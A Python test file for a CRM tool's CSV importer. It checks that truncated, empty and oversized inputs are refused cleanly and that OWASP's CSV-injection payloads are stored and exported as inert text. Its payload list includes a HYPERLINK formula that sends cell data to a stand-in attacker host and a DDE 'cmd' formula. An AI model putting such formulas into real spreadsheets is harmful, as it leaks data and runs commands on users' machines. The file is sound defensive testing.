"""Hostile and broken input files, on both backends: a file cut off mid-line, an empty
file, a 10 MB header line, OWASP's CSV-injection list (a round trip), and cells over the
backend's limit (Google Sheets 50,000 characters, xlsx 32,767): refused before anything
is written, naming the row and the column."""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from sheetcrm.emulator.routes import WRITE_METHODS

from .harness import (
    CUSTOMER_HEADER,
    SheetsWorld,
    World,
    assert_converged,
    customer,
    ok,
    run,
    write_csv,
)

OWASP = [
    "=1+2",
    "+1+2",
    "-1+2",
    "@SUM(1+1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "\t=1+2",
    "\r=1+2",
    '=1+2";=1+2',
    "=1+2'\" ;,=1+2",
    "＝1+2",
    "%0A-1+2",
]


@pytest.fixture
def seeded(world: World, baselines) -> World:
    world.restore(baselines(world.kind, "import").pre)
    return world


def customers(world: World) -> list[tuple[Any, ...]]:
    return world.book().tabs["Customers"]


def emails(world: World) -> list[Any]:
    rows = customers(world)
    at = list(rows[0]).index("email")
    return [r[at] for r in rows[1:]]


def test_a_file_cut_off_mid_line_never_writes_the_fragment(seeded, tmp_path):
    path = tmp_path / "cut.csv"
    path.write_text(
        "name,email,phone,city,notes\n"
        "Cut One,cut1@example.com,+44 7400 555001,Hull,n\n"
        "Cut Two,cut2@example.com,+44 7400 555002,Yo",  # no newline, cut inside a field
        encoding="utf-8",
    )
    ran = run(seeded, "import", str(path), "--tab", "Customers")
    # 8: the complete row went in and the cut one was set aside (3: refused whole)
    assert ran.returncode in (3, 8) and "Traceback" not in ran.stderr, ran.stderr
    book = seeded.book()
    assert not [r for r in customers(seeded) if "Yo" in r], "the fragment was written"
    if ran.returncode == 8:
        assert "cut1@example.com" in emails(seeded)
        quarantined = book.tabs["_quarantine"]
        assert any("mid-line" in " ".join(map(str, r)) for r in quarantined[1:]), quarantined


def test_an_empty_file_is_refused_in_one_line(seeded, tmp_path):
    before = seeded.book()
    for name, text in (("empty.csv", ""), ("blank.csv", "\n\n")):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        ran = run(seeded, "import", str(path), "--tab", "Customers")
        assert ran.returncode == 3, f"{name}: {ran}"
        assert len(ran.stderr.strip().splitlines()) == 1 and "Traceback" not in ran.stderr
        assert_converged(seeded.book(), before, f"{name} changed the workbook")


def test_a_10_mb_header_line_is_refused_with_bounded_output(seeded, tmp_path):
    before = seeded.book()
    path = tmp_path / "wide.csv"
    path.write_text("name,email" + "," * 10_000_000 + "\nAna,ana@example.com\n", encoding="utf-8")
    ran = run(seeded, "import", str(path), "--tab", "Customers")
    assert ran.returncode in (0, 3, 8) and "Traceback" not in ran.stderr, ran
    assert len(ran.stdout) + len(ran.stderr) < 10_000, len(ran.stdout) + len(ran.stderr)
    if ran.returncode == 3:
        assert_converged(seeded.book(), before, "a refused file changed the workbook")


def _raw_notes(world: World) -> dict[str, Any]:
    """Each customer's notes cell as stored, formulas marked (``("formula", text)``)."""
    if isinstance(world, SheetsWorld):
        from sheetcrm.emulator.cells import Formula

        rows = world.mate().sheet("Customers").rows
        head = list(rows[0])
        e, n = head.index("email"), head.index("notes")
        return {
            r[e]: ("formula", r[n].text) if isinstance(r[n], Formula) else r[n]
            for r in rows[1:]
            if len(r) > n
        }
    import openpyxl

    ws = openpyxl.load_workbook(world.path)["Customers"]  # type: ignore[attr-defined]
    rows = list(ws.iter_rows())
    head = [c.value for c in rows[0]]
    e, n = head.index("email"), head.index("notes")
    return {
        r[e].value: ("formula", r[n].value) if r[n].data_type == "f" else r[n].value
        for r in rows[1:]
    }


def test_the_owasp_csv_injection_list_round_trips_as_text(seeded, tmp_path):
    rows = []
    for i, payload in enumerate(OWASP):
        person = customer(i, "Hull", "x")
        person[-1] = payload
        rows.append(person)
    path = write_csv(tmp_path / "owasp.csv", CUSTOMER_HEADER, rows)
    ok(run(seeded, "import", str(path), "--tab", "Customers"))
    stored = _raw_notes(seeded)
    # kept as the same text (a formula never); the importer trims the whitespace around a
    # cell by design, so a leading tab or CR goes and the rest must stay text
    wrong = {
        payload: stored.get(f"x{i:02d}@example.com")
        for i, payload in enumerate(OWASP)
        if stored.get(f"x{i:02d}@example.com") != payload.strip()
    }
    assert not wrong, f"not kept as the same text: {wrong}"
    exported = ok(run(seeded, "export", "Customers", "--format", "csv")).stdout
    table = list(csv.DictReader(io.StringIO(exported)))
    live = [r["notes"] for r in table if r["notes"][:1] in ("=", "+", "-", "@", "\t", "\r", "＝")]
    assert not live, f"exported cells a spreadsheet would run: {live}"
    # and the exported file imported again changes nothing
    before = seeded.book()
    again = tmp_path / "again.csv"
    again.write_text(exported, encoding="utf-8")
    ok(run(seeded, "import", str(again), "--tab", "Customers"))
    assert_converged(seeded.book(), before, "the exported file came back different")


LIMIT = {"gsheets": 50_000, "xlsx": 32_767}


def test_a_cell_over_the_limit_is_refused_before_any_request(seeded, tmp_path):
    limit = LIMIT[seeded.kind]
    before = seeded.book()
    rows = [customer(i, "Hull", "z") for i in range(3)]
    rows[1][-1] = "x" * (limit + 1)
    path = write_csv(tmp_path / "big.csv", CUSTOMER_HEADER, rows)
    if isinstance(seeded, SheetsWorld):
        seeded.emu.keep_log = True
    ran = run(seeded, "import", str(path), "--tab", "Customers")
    assert ran.returncode == 3, f"{ran}\n{ran.stderr}"
    line = ran.stderr.strip()
    assert len(line.splitlines()) == 1 and "Traceback" not in line, line
    assert "notes" in line and "3" in line, f"row and column not named: {line}"
    if isinstance(seeded, SheetsWorld):
        # the run may take and give back its lease in _meta; no byte of the file is sent
        sent = [json.dumps(body) for m, _, body in seeded.emu.log if m in WRITE_METHODS]
        leaked = [b[:200] for b in sent if "z00@example.com" in b or "xxxxxxxxxx" in b]
        assert leaked == [], f"sent before refusing: {leaked}"
    assert_converged(seeded.book(), before, "a refused import changed the workbook")
    rows[1][-1] = "x" * limit  # exactly at the limit is fine
    ok(
        run(
            seeded,
            "import",
            str(write_csv(tmp_path / "ok.csv", CUSTOMER_HEADER, rows)),
            "--tab",
            "Customers",
        )
    )
    assert "z01@example.com" in emails(seeded)
